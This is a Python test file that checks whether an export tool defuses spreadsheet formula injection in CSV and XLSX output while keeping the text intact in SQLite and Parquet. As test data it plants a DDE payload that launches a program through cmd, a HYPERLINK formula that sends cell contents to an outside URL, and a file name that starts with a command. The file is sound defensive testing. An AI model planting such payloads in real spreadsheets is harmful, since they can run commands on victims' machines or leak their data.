"""Text that a spreadsheet would run comes out safe in CSV and XLSX, and as itself elsewhere."""

import csv
import io
import re
import zipfile
from contextlib import closing

import openpyxl
import pytest
from read_exports import from_csv, from_parquet, from_sqlite, from_workbooks, schema

from crossfoot.core.spreadsheet_text import STARTS

# What an office is called instead, one per way to start a formula; the last only looks like one.
PLANTED = {
    "Atlanta": '=HYPERLINK("http://example.org/?"&B2,"more")',
    "Baltimore": "+1+cmd|' /C calc'!A0",
    "Boston": "-2+3",
    "Buffalo": "@SUM(1+1)",
    "Chicago": "\t=1+2",
    "Dallas": "'=1+1",
    "Denver": 'said "so", and\nmore',
}
FILE_NAME = "=cmd|calc FY23_detentionStats06152023.xlsx"


@pytest.fixture(scope="module")
def export(command, tmp_path_factory):
    folder = tmp_path_factory.mktemp("planted")
    env = {"CROSSFOOT_STATE": str(folder / "state"), "CROSSFOOT_ARCHIVE": str(folder / "archive")}
    assert command("example", folder / "drafts", env=env).returncode == 0
    source = folder / "drafts" / "FY23_detentionStats06012023.xlsx"
    book = openpyxl.load_workbook(source)
    sheet = book["ATD FY23 YTD"]
    labels = {str(cell.value).strip(): cell for cell in sheet["A"]}
    for office, label in PLANTED.items():
        labels[office].value = label
        labels[office].data_type = "s"
    book.save(folder / FILE_NAME)
    assert command("add", folder / FILE_NAME, env=env).returncode == 0
    done = command("export", folder / "out", env=env)
    assert done.returncode == 0, done.stderr
    return folder / "out"


def test_what_was_planted_is_there_as_itself(export):
    for read in (from_sqlite, from_parquet):
        rows = read(export, "observations")
        names = [name for name, _ in schema(export)["observations"]]
        paths = {row[names.index("row_path")] for row in rows}
        # A label is what stands between the blanks around it.
        assert {label.strip() for label in PLANTED.values()} <= paths
        assert {row[names.index("release")] for row in rows} == {FILE_NAME}


def test_no_field_of_a_csv_file_can_be_run(export):
    dangerous = 0
    for path in (export / "csv").iterdir():
        kinds = dict(schema(export)[path.stem])
        for record in csv.DictReader(io.StringIO(path.read_text("utf-8"), newline="")):
            for name, cell in record.items():
                if kinds[name] == "string":
                    assert not cell.startswith(STARTS), (path.name, name, cell)
                    dangerous += cell.startswith("'")
    assert dangerous > len(PLANTED)


def test_no_cell_of_the_workbook_can_be_run(export):
    path = export / "crossfoot.xlsx"
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            assert not re.search(rb"<f[ >]|<hyperlink", package.read(name)), name
    with closing(openpyxl.load_workbook(path, read_only=True)) as book:
        for sheet in book:
            for row in sheet.iter_rows(values_only=True):
                assert not [c for c in row if isinstance(c, str) and c.startswith(STARTS)]


def test_one_apostrophe_less_gives_back_every_text(export):
    workbook = from_workbooks(export / "crossfoot.xlsx", schema(export))
    for table in schema(export):
        rows = from_sqlite(export, table)
        assert from_csv(export, table) == rows
        assert workbook[table] == rows
